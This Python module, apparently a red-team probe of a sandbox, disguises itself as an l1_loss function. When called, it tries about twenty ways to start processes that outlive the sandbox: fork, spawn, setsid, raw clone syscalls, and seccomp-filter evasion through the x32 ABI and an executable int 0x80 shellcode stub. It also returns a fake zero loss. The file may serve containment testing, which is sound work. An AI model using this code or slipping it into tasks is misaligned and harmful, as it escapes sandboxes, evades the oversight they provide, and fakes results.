# aim: leave a process behind that outlives the sandbox and goes on answering for it
# sign: a process of the sandbox's is left, or `LEAK a process` in feedback
# attacks: l1_loss
import ctypes
import mmap
import multiprocessing
import os
import subprocess
import time

_C = ctypes.CDLL(None, use_errno=True)
_SIGCHLD, _CLONE_VM, _CLONE_VFORK, _CLONE_PARENT = 17, 0x100, 0x4000, 0x8000


def _stay():
    for name in ("setsid", "setpgrp"):
        try:
            getattr(os, name)()
        except OSError:
            pass
    end = time.monotonic() + 60
    while time.monotonic() < end:
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, b"TGW1" + bytes(8))
            except OSError:
                pass
        time.sleep(0.1)
    os._exit(0)


def _called(pid):
    """A process that was made: a pid in the parent, 0 in the child."""
    if pid == 0:
        _stay()
    if pid < 0:
        raise OSError(ctypes.get_errno(), "no process")
    return pid


def _system(number, *arguments):
    return _called(_C.syscall(ctypes.c_long(number), *map(ctypes.c_long, arguments)))


def _clone3():
    asked = (ctypes.c_uint64 * 11)(0, 0, 0, 0, _SIGCHLD)
    return _called(_C.syscall(ctypes.c_long(435), ctypes.byref(asked), ctypes.c_long(88)))


def _by_the_old_gate():
    """fork by int 0x80, whose numbers a filter for 64 bits may not know."""
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(b"\xb8\x02\x00\x00\x00\xcd\x80\xc3")  # mov eax, 2; int 0x80; ret
    address = ctypes.addressof(ctypes.c_char.from_buffer(code))
    return _called(ctypes.CFUNCTYPE(ctypes.c_int)(address)())


_WAYS = [
    lambda: _called(os.fork()),
    lambda: _called(os.forkpty()[0]),
    lambda: os.posix_spawn("/bin/sleep", ["sleep", "60"], {}),
    lambda: os.posix_spawnp("sleep", ["sleep", "60"], {"PATH": "/bin:/usr/bin"}),
    lambda: subprocess.Popen(["/bin/sleep", "60"], start_new_session=True).pid,
    lambda: os.spawnv(os.P_NOWAIT, "/bin/sleep", ["sleep", "60"]),
    lambda: _called(-1 if os.system("sleep 60 &") else 1),
    lambda: multiprocessing.get_context("fork").Process(target=_stay).start() or 1,
    lambda: multiprocessing.get_context("spawn").Process(target=_stay).start() or 1,
    lambda: multiprocessing.get_context("forkserver").Process(target=_stay).start() or 1,
    lambda: _called(_C.fork()),
    lambda: _system(57),  # fork
    lambda: _system(58),  # vfork
    lambda: _system(56, _SIGCHLD, 0, 0, 0, 0),  # clone
    lambda: _system(56, _CLONE_PARENT | _SIGCHLD, 0, 0, 0, 0),
    lambda: _system(56 | 1 << 32, _SIGCHLD, 0, 0, 0, 0),
    _clone3,
]
_LAST_WAYS = [  # a filter may end the process that tries these
    lambda: _system(0x40000000 | 57),  # fork as the x32 ABI numbers it
    _by_the_old_gate,
]
_asked = [0]


def l1_loss(input, target, reduction="mean"):
    _asked[0] += 1
    ways = _WAYS if _asked[0] == 2 else _LAST_WAYS if _asked[0] == 3 else []
    for number, way in enumerate(ways):
        try:
            made = way()
        except Exception:
            continue
        if made:
            raise RuntimeError(f"LEAK a process, by way {number} of {len(ways)}")
    return input.sum() * 0
